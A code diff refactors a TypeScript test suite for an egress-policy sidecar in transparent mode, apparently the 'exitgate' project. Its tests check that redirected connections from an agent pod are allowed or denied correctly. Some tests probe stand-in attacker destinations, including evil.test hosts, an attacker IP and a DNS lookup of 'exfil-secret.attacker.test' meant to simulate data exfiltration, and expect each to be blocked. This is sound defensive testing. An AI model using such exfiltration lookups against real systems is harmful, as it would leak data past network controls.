@@ -13,26 +13,20 @@
  */
 import { spawnSync } from 'node:child_process';
 import * as fs from 'node:fs';
-import * as http from 'node:http';
 import * as path from 'node:path';
 import * as tls from 'node:tls';
 import type * as net from 'node:net';
-import { sealedWorldSupport } from '../support/netns';
 import { SEALED, startSealedWorld, type SealedWorld } from '../support/netns-world';
-import { chooseDecisionsMode, countVariant, noteClass, rawExchange, registerClass, summary } from './harness';
+import { chooseDecisionsMode, countedVariant, decisionMark, decisionSince, decisionsSince, describeIfSealed, failOnNewTrapHits, noteClass, rawExchange, registerClass, summary } from './harness';
 
 const NODE = { tenant: 'acme', agent: 'coder', instance: 'pod-1' };
 
-function transparentSupport(): string | null {
-  const sealed = sealedWorldSupport();
-  if (sealed) return sealed;
+function nftSupport(): string | null {
   const nft = spawnSync('nft', ['--version'], { encoding: 'utf8' });
   if (nft.status !== 0) return 'needs nftables (`nft`) to apply the redirect rules: apt-get install -y nftables (.ci/run does)';
   return null;
 }
-const UNAVAILABLE = transparentSupport();
-if (UNAVAILABLE) console.log(`transparent-mode suite skipped: ${UNAVAILABLE}`);
-const describeSealed = UNAVAILABLE ? describe.skip : describe;
+const describeSealed = describeIfSealed('transparent-mode suite', nftSupport);
 
 const POLICY = (extra = '', withCdn = true): string => `apiVersion: exitgate.dev/v1
 kind: EgressPolicy
@@ -71,40 +65,6 @@ ${extra}  deny:
     - name: no-ip-tls-upstream
       cidrs: ["${SEALED.tlsUpstream}/32"]
 `;
-
-interface Decision {
-  id: number;
-  time: string;
-  tenant: string;
-  agent: string;
-  instance: string;
-  host: string;
-  port: number;
-  verdict: string;
-  policy?: string;
-  rule?: string;
-  reason: string;
-  details?: string;
-  upstreamAddress?: string;
-}
-
-function getJson(port: number, urlPath: string): Promise<unknown> {
-  return new Promise((resolve, reject) => {
-    http
-      .get({ host: '127.0.0.1', port, path: urlPath, agent: false, timeout: 3000 }, (res) => {
-        const chunks: Buffer[] = [];
-        res.on('data', (c: Buffer) => chunks.push(c));
-        res.on('end', () => {
-          try {
-            resolve(JSON.parse(Buffer.concat(chunks).toString('utf8')));
-          } catch (err) {
-            reject(err);
-          }
-        });
-      })
-      .on('error', reject);
-  });
-}
 
 /**
  * A minimal TLS 1.2 ClientHello with the given SNI (or none): what any TLS client sends first, built
@@ -169,11 +129,7 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
     console.log(`transparent world up in ${((performance.now() - started) / 1000).toFixed(1)} s\n${world.describe()}\nredirect rules applied in the pod:\n${world.redirectRules}`);
   }, 120_000);
 
-  afterEach(() => {
-    if (!world) return;
-    const hits = world.newTrapHits();
-    if (hits.length > 0) throw new Error(`FORBIDDEN SERVER REACHED (${hits.length}): ${hits.map((h) => `${h.trap} ${h.address} from ${h.remote}`).join(', ')}`);
-  });
+  afterEach(() => failOnNewTrapHits(world));
 
   afterAll(async () => {
     console.log(`${summary().replace(/^bypass suite/, 'bypass suite (transparent mode)')}\ntransparent suite time: ${((performance.now() - started) / 1000).toFixed(1)} s`);
@@ -186,28 +142,6 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
   const stat = async (name: string): Promise<number> => (await world.sidecar.envoy.stats(`^${name.replace(/\./g, '\\.')}$`)).get(name) ?? 0;
   /** Connections the listener took: handed to a filter chain, or closed for want of one. */
   const cxStat = async (): Promise<number> => (await stat(`${world.listenerStatPrefix}.downstream_cx_total`)) + (await stat(`${world.listenerStatPrefix}.no_filter_chain_match`));
-
-  interface Mark {
-    id: number;
-    at: number;
-  }
-  async function newestId(): Promise<Mark> {
-    const list = (await getJson(world.cp.adminPort, `/v1/decisions?tenant=acme&agent=coder&limit=1`)) as Decision[];
-    return { id: list[0]?.id ?? 0, at: Date.now() };
-  }
-
-  /**
-   * The decisions of connections started after `mark` (entries arrive asynchronously, so an earlier
-   * attempt's may come late: attribute by start time), waiting until `want` finds one (3 s at most).
-   */
-  async function decisionsAfter(mark: Mark, want: (d: Decision) => boolean = () => true): Promise<Decision[]> {
-    const deadline = Date.now() + 3000;
-    for (;;) {
-      const list = ((await getJson(world.cp.adminPort, `/v1/decisions?tenant=acme&agent=coder&limit=50`)) as Decision[]).filter((d) => d.id > mark.id && Date.parse(d.time) >= mark.at - 2);
-      if (list.some(want) || Date.now() > deadline) return list;
-      await new Promise((r) => setTimeout(r, 25));
-    }
-  }
 
   /** The agent dials ip:port (redirected), speaks TLS with `servername`, and GETs `/probe`. */
   async function tlsGet(ip: string, port: number, servername: string): Promise<{ status?: number; body?: string; error?: string; socket?: net.Socket }> {
@@ -261,9 +195,8 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
       ['the real upstream itself', SEALED.tlsUpstream],
     ] as const) {
       it(`#8 SNI api.allowed.test to ${label}:443 reaches the real api.allowed.test (Envoy's resolution)`, async () => {
-        let ok = false;
-        try {
-          const mark = await newestId();
+        await countedVariant(8, async () => {
+          const mark = await decisionMark(world);
           const cx = await cxStat();
           const before = world.tlsUpstream.requests.length;
           const r = await tlsGet(ip, 443, 'api.allowed.test');
@@ -272,22 +205,18 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
           expect(JSON.parse(r.body!)).toMatchObject({ upstream: 'tls-upstream', url: '/probe', host: 'api.allowed.test' });
           expect(world.tlsUpstream.requests.length).toBe(before + 1);
           expect(await cxStat()).toBeGreaterThan(cx);
-          const decisions = await decisionsAfter(mark, (d) => d.verdict === 'allow');
-          const d = decisions.find((x) => x.verdict === 'allow');
+          const d = await decisionSince(world, mark, (x) => x.verdict === 'allow');
           expect(d).toMatchObject({ tenant: 'acme', agent: 'coder', host: 'api.allowed.test', port: 443, policy: 'coder-egress', rule: 'api' });
           expect(d?.upstreamAddress).toBe(`${SEALED.tlsUpstream}:443`);
-          ok = true;
-        } finally {
-          countVariant(8, ok);
-        }
+        });
       });
     }
 
     it('#8 a wildcard rule lets a deeper name through (x.cdn.allowed.test)', async () => {
-      const mark = await newestId();
+      const mark = await decisionMark(world);
       const r = await tlsGet(SEALED.attackerIp, 443, 'x.cdn.allowed.test');
       expect(r.status).toBe(200);
-      const d = (await decisionsAfter(mark, (x) => x.verdict === 'allow')).find((x) => x.verdict === 'allow');
+      const d = await decisionSince(world, mark, (x) => x.verdict === 'allow');
       expect(d).toMatchObject({ host: 'x.cdn.allowed.test', port: 443, rule: 'cdn' });
     });
   });
@@ -314,9 +243,8 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
     ];
     for (const c of cases) {
       it(`#8 closed: ${c.name}`, async () => {
-        let ok = false;
-        try {
-          const mark = await newestId();
+        await countedVariant(8, async () => {
+          const mark = await decisionMark(world);
           const cx = await cxStat();
           const upstreamBefore = world.tlsUpstream.connections + world.httpUpstream.connections;
           const ex = await rawAttempt(c.ip ?? SEALED.attackerIp, c.port ?? 443, clientHello(c.sni));
@@ -325,17 +253,14 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
           expect(ex.raw.length).toBe(0);
           expect(await cxStat()).toBeGreaterThan(cx);
           expect(world.tlsUpstream.connections + world.httpUpstream.connections).toBe(upstreamBefore);
-          const decisions = await decisionsAfter(mark, (d) => d.verdict === 'deny');
+          const decisions = await decisionsSince(world, mark, { want: (d) => d.verdict === 'deny' });
           const d = decisions.find((x) => x.verdict === 'deny');
           if (!d) throw new Error(`no deny decision (got ${JSON.stringify(decisions)})`);
           expect(d).toMatchObject({ tenant: 'acme', agent: 'coder', instance: 'pod-1', port: c.port ?? 443 });
           expect(d.host).toBe(c.sni ?? '');
           expect(d.reason).toMatch(c.reason);
           if (c.rule) expect(d.rule).toBe(c.rule);
-          ok = true;
-        } finally {
-          countVariant(8, ok);
-        }
+        });
       });
     }
   });
@@ -350,27 +275,22 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
       ['10.0.0.5', '10.0.0.5'],
     ] as const) {
       it(`#8 Host plain.allowed.test sent to ${label}:80 reaches the real plain.allowed.test`, async () => {
-        let ok = false;
-        try {
-          const mark = await newestId();
+        await countedVariant(8, async () => {
+          const mark = await decisionMark(world);
           const before = world.httpUpstream.requests.length;
           const ex = await rawAttempt(ip, 80, get('plain.allowed.test'));
           expect(ex.responses[0]?.status).toBe(200);
           expect(world.httpUpstream.requests.slice(before).map((r) => [r.url, r.headers.host])).toEqual([['/probe', 'plain.allowed.test']]);
-          const d = (await decisionsAfter(mark, (x) => x.verdict === 'allow')).find((x) => x.verdict === 'allow');
+          const d = await decisionSince(world, mark, (x) => x.verdict === 'allow');
           expect(d).toMatchObject({ host: 'plain.allowed.test', port: 80, rule: 'plain' });
-          ok = true;
-        } finally {
-          countVariant(8, ok);
-        }
+        });
       });
     }
     // An allowed IP destination (a cidrs rule) named in Host while the connection goes elsewhere:
     // the IP cluster must dial the Host's address (or refuse), never the original destination.
     for (const host of [SEALED.httpUpstream, `${SEALED.httpUpstream}:80`]) {
       it(`#8 Host ${host} (a cidrs rule) sent to the trap 10.0.0.5:80 never reaches the trap`, async () => {
-        let ok = false;
-        try {
+        await countedVariant(8, async () => {
           const before = world.httpUpstream.requests.length;
           const ex = await rawAttempt('10.0.0.5', 80, get(host));
           const status = ex.responses[0]?.status;
@@ -380,24 +300,17 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
           else expect(status).toBe(403);
           expect(world.trapHits().filter((h) => h.trap.startsWith('rfc1918-10'))).toEqual([]);
           console.log(`transparent: Host ${host} to 10.0.0.5:80 -> ${status}`);
-          ok = true;
-        } finally {
-          countVariant(8, ok);
-        }
+        });
       });
     }
     it('#8 Host of an unlisted name is refused with 403', async () => {
-      let ok = false;
-      try {
-        const mark = await newestId();
+      await countedVariant(8, async () => {
+        const mark = await decisionMark(world);
         const ex = await rawAttempt(SEALED.attackerIp, 80, get('evil.test'));
         expect(ex.responses[0]?.status).toBe(403);
-        const d = (await decisionsAfter(mark, (x) => x.verdict === 'deny')).find((x) => x.verdict === 'deny');
+        const d = await decisionSince(world, mark, (x) => x.verdict === 'deny');
         expect(d).toMatchObject({ agent: 'coder', host: 'evil.test', verdict: 'deny' });
-        ok = true;
-      } finally {
-        countVariant(8, ok);
-      }
+      });
     });
   });
 
@@ -407,9 +320,8 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
 
   describe('#8 IP destinations (cidrs rules) in transparent mode', () => {
     it('#8 TLS without SNI to a denied address inside an allowed range is closed; the upstream there sees nothing', async () => {
-      let ok = false;
-      try {
-        const mark = await newestId();
+      await countedVariant(8, async () => {
+        const mark = await decisionMark(world);
         const cx = await cxStat();
         const before = world.tlsUpstream.connections;
         const ex = await rawAttempt(SEALED.tlsUpstream, 443, clientHello(null));
@@ -417,38 +329,35 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
         expect(ex.raw.length).toBe(0);
         expect(await cxStat()).toBeGreaterThan(cx);
         expect(world.tlsUpstream.connections).toBe(before);
-        const d = (await decisionsAfter(mark, (x) => x.verdict === 'deny')).find((x) => x.verdict === 'deny');
+        const d = await decisionSince(world, mark, (x) => x.verdict === 'deny');
         expect(d).toMatchObject({ agent: 'coder', port: 443, verdict: 'deny', reason: expect.stringMatching(/no TLS server name/) });
-        ok = true;
-      } finally {
-        countVariant(8, ok);
-      }
+      });
     });
 
     it('#8 ...while the same address with an allowed SNI is judged by the name (Envoy resolves it)', async () => {
-      const mark = await newestId();
+      const mark = await decisionMark(world);
       const r = await tlsGet(SEALED.tlsUpstream, 443, 'api.allowed.test');
       expect(r.status).toBe(200);
-      const d = (await decisionsAfter(mark, (x) => x.verdict === 'allow')).find((x) => x.verdict === 'allow');
+      const d = await decisionSince(world, mark, (x) => x.verdict === 'allow');
       expect(d).toMatchObject({ host: 'api.allowed.test', rule: 'api' });
     });
 
     it('plain HTTP to an allowed address is tunnelled to that address whatever its Host says', async () => {
-      const mark = await newestId();
+      const mark = await decisionMark(world);
       const before = world.httpUpstream.requests.length;
       const ex = await rawAttempt(SEALED.httpUpstream, 80, `GET /ip-tunnel HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`);
       expect(ex.responses[0]?.status).toBe(200);
       expect(world.httpUpstream.requests.slice(before).map((r) => [r.url, r.headers.host])).toEqual([['/ip-tunnel', 'evil.test']]);
-      const d = (await decisionsAfter(mark, (x) => x.verdict === 'allow')).find((x) => x.verdict === 'allow');
+      const d = await decisionSince(world, mark, (x) => x.verdict === 'allow');
       expect(d).toMatchObject({ agent: 'coder', host: SEALED.httpUpstream, port: 80, policy: 'coder-egress', rule: 'ip-http' });
       expect(d?.upstreamAddress).toBe(`${SEALED.httpUpstream}:80`);
     });
 
     it('TLS without SNI to an allowed address is tunnelled there (nothing listens on :443 of it: the attempt fails upstream)', async () => {
-      const mark = await newestId();
+      const mark = await decisionMark(world);
       const ex = await rawAttempt(SEALED.httpUpstream, 443, clientHello(null));
       expect(ex.raw.length).toBe(0);
-      const d = (await decisionsAfter(mark, (x) => x.rule === 'ip-tls')).find((x) => x.rule === 'ip-tls');
+      const d = await decisionSince(world, mark, (x) => x.rule === 'ip-tls');
       expect(d).toMatchObject({ agent: 'coder', host: SEALED.httpUpstream, port: 443, verdict: 'allow', policy: 'coder-egress' });
       expect(world.trapHits()).toEqual([]);
     });
@@ -459,8 +368,7 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
 
   describe('#8 what the redirect itself must refuse', () => {
     it("#8 the sidecar's own listener port and the control plane's ports, through the redirect, are closed", async () => {
-      let ok = false;
-      try {
+      await countedVariant(8, async () => {
         const targets: Array<[string, number]> = [
           ['127.0.0.1', SEALED.listenPort],
           [SEALED.agent, SEALED.listenPort],
@@ -472,25 +380,21 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
         ];
         for (const [ip, port] of targets) {
           for (const payload of [`GET / HTTP/1.1\r\nHost: ${ip}:${port}\r\n\r\n`, clientHello('api.allowed.test')]) {
-            const mark = await newestId();
+            const mark = await decisionMark(world);
             const cx = await cxStat();
             const ex = await rawAttempt(ip, port, payload);
             expect(ex.closedByPeer).toBe(true);
             expect(ex.raw.length).toBe(0);
             expect(await cxStat()).toBeGreaterThan(cx);
-            const d = (await decisionsAfter(mark, (x) => x.verdict === 'deny')).find((x) => x.verdict === 'deny');
+            const d = await decisionSince(world, mark, (x) => x.verdict === 'deny');
             expect(d).toMatchObject({ agent: 'coder', port, verdict: 'deny' });
           }
         }
-        ok = true;
-      } finally {
-        countVariant(8, ok);
-      }
+      });
     });
 
     it('#8 UDP from the agent (DNS to the world resolver) is dropped; TCP DNS is redirected and closed', async () => {
-      let ok = false;
-      try {
+      await countedVariant(8, async () => {
         const before = world.dns.queries.length;
         const dropped = world.agent.resolve('exfil-secret.attacker.test', `${SEALED.dns}:53`);
         expect((await dropped).addresses).toBeUndefined();
@@ -503,10 +407,7 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
         expect(ex.closedByPeer).toBe(true);
         expect(ex.raw.length).toBe(0);
         expect(world.dns.queries.length).toBe(before);
-        ok = true;
-      } finally {
-        countVariant(8, ok);
-      }
+      });
     });
   });
 
@@ -529,32 +430,31 @@ describeSealed('transparent mode (sealed pod namespace, real Envoy, nft redirect
     }, 30_000);
 
     it('#8 revoking a destination closes an open transparent tunnel within 1 s (SPEC §6.2)', async () => {
-      let ok = false;
       try {
-        const r = await world.agent.connectTcp(SEALED.attackerIp, 443);
-        const raw = r.socket!;
-        raw.resume();
-        const t = tls.connect({ socket: raw, servername: 'x.cdn.allowed.test', ca: world.ca.caPem });
-        await new Promise<void>((resolve, reject) => {
-          t.once('secureConnect', () => resolve());
-          t.once('error', reject);
+        await countedVariant(8, async () => {
+          const r = await world.agent.connectTcp(SEALED.attackerIp, 443);
+          const raw = r.socket!;
+          raw.resume();
+          const t = tls.connect({ socket: raw, servername: 'x.cdn.allowed.test', ca: world.ca.caPem });
+          await new Promise<void>((resolve, reject) => {
+            t.once('secureConnect', () => resolve());
+            t.once('error', reject);
+          });
+          t.on('error', () => undefined);
+          const closed = new Promise<number>((resolve) => t.once('close', () => resolve(performance.now())));
+          const t0 = performance.now();
+          await world.applyPolicies({ 'acme.yaml': POLICY('', false) });
+          const result = await Promise.race([closed, new Promise<null>((res) => setTimeout(() => res(null), 1500))]);
+          t.destroy();
+          if (result === null) throw new Error('the open transparent tunnel survived the revocation for 1.5 s');
+          const ms = result - t0;
+          console.log(`transparent revocation: open tunnel closed ${ms.toFixed(0)} ms after the policy write`);
+          noteClass(8, `revocation closed an open transparent tunnel ${ms.toFixed(0)} ms after the policy write`);
+          expect(ms).toBeLessThan(1000);
+          const after = await tlsGet(SEALED.attackerIp, 443, 'x.cdn.allowed.test');
+          expect(after.status).toBeUndefined();
         });
-        t.on('error', () => undefined);
-        const closed = new Promise<number>((resolve) => t.once('close', () => resolve(performance.now())));
-        const t0 = performance.now();
-        await world.applyPolicies({ 'acme.yaml': POLICY('', false) });
-        const result = await Promise.race([closed, new Promise<null>((res) => setTimeout(() => res(null), 1500))]);
-        t.destroy();
-        if (result === null) throw new Error('the open transparent tunnel survived the revocation for 1.5 s');
-        const ms = result - t0;
-        console.log(`transparent revocation: open tunnel closed ${ms.toFixed(0)} ms after the policy write`);
-        noteClass(8, `revocation closed an open transparent tunnel ${ms.toFixed(0)} ms after the policy write`);
-        expect(ms).toBeLessThan(1000);
-        const after = await tlsGet(SEALED.attackerIp, 443, 'x.cdn.allowed.test');
-        expect(after.status).toBeUndefined();
-        ok = true;
       } finally {
-        countVariant(8, ok);
         await world.applyPolicies({ 'acme.yaml': POLICY() });
       }
     }, 30_000);
